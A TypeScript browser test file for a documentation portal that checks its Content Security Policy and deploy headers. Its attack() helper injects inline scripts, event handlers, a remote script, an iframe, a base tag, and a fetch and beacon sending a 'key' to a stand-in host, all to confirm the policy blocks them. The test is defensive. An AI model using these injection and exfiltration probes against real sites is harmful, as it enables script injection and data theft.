import {readdir, readFile} from 'node:fs/promises';
import path from 'node:path';
import {expectHeaders, expectTwins} from '../responses';
import {Console} from '../pages/Console';
import {BUILD, expect, test} from '../test';
import {watch} from '../browser/traffic';

test('every response has the headers, files that never change may be cached, and the rest is revalidated', async ({request, served}) => {
  await expectHeaders(request, served.url);
  await expectTwins(request, served.url);
});

/** Tries what a hostile text would try if it became part of a page. Records what worked and what was refused. */
function attack(): void {
  const seen = {kinds: [] as string[], done: [] as string[]};
  const did = (what: string): unknown => seen.done.push(what);
  Object.assign(window, {seen, did});
  addEventListener('securitypolicyviolation', ({effectiveDirective}) => seen.kinds.push(effectiveDirective));
  const add = <K extends keyof HTMLElementTagNameMap>(name: K, fields: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] =>
    document.body.appendChild(Object.assign(document.createElement(name), fields));
  // Code that a test evaluates may do anything. In a timer, the page's own policy applies.
  setTimeout(() => {
    add('script', {textContent: "did('script')"});
    const markup = add('div', {innerHTML: `<img src="data:," onerror="did('handler')"><p style="color: rgb(1, 2, 3)">Text</p>`});
    if (getComputedStyle(markup.querySelector('p') ?? markup).color === 'rgb(1, 2, 3)') did('style');
    add('style', {textContent: 'p {color: red}'});
    add('script', {src: 'https://elsewhere.example/x.js', onload: () => did('remote script')});
    add('iframe', {src: 'https://elsewhere.example/'});
    add('base', {href: 'https://elsewhere.example/'});
    if (document.baseURI.includes('elsewhere')) did('base');
    // oxlint-disable-next-line typescript/no-implied-eval -- it must be refused
    setTimeout("did('text of a timer')");
    void fetch('https://elsewhere.example/key').then(() => did('fetch'));
    navigator.sendBeacon('https://elsewhere.example/beacon', 'key');
  });
}

test('the policy refuses everything that a hostile text might do', async ({page, portal, violations}) => {
  await portal.open('docs/intro');
  const seen = watch(page);
  await page.evaluate(attack);
  const getKinds = (): Promise<string[]> =>
    page.evaluate(() => [...new Set((window as unknown as {seen: {kinds: string[]}}).seen.kinds)].sort());
  await expect
    .poll(getKinds)
    .toEqual([
      'base-uri',
      'connect-src',
      'frame-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]);
  expect(await page.evaluate(() => (window as unknown as {seen: {done: string[]}}).seen.done)).toEqual([]);
  const asked = seen.requests.filter((request) => request.url().includes('elsewhere'));
  expect(await Promise.all(asked.map((request) => request.response()))).toEqual(asked.map(() => null));
  violations.length = 0;
});

test('the JSON editor has its styles under the policy', async ({page}) => {
  const call = new Console(page);
  await call.start('indices-controller-create-index');
  await call.action('JSON').click();
  await expect(call.console.locator('.cm-editor')).toHaveCSS('display', 'flex');
  await expect(call.console.locator('.cm-scroller')).toHaveCSS('overflow', 'auto');
  await expect(page.locator('style')).toHaveCount(0);
});

test('files of the build for other hosts have the same policy', async ({request, served}) => {
  const names = await readdir(path.join(BUILD, '.deploy'));
  expect(names.sort()).toEqual([
    'Caddyfile',
    '_headers',
    '_redirects',
    'apache.conf',
    'cloudfront-function.js',
    'cloudfront-headers.json',
    'firebase.json',
    'nginx.conf',
    'portal.conf',
    'robots.txt',
    's3.sh',
    'site.json',
    'staticwebapp.config.json',
    'vercel.json',
  ]);
  const {headers} = JSON.parse(await readFile(path.join(BUILD, '.deploy/site.json'), 'utf8')) as {headers: Record<string, string>};
  const policy = headers['Content-Security-Policy'] ?? '';
  const {allowLocal} = await import('@lectern/docusaurus/hosting');
  expect((await request.get(served.url)).headers()['content-security-policy']).toBe(allowLocal(policy));
  expect(policy).not.toContain('localhost');
});
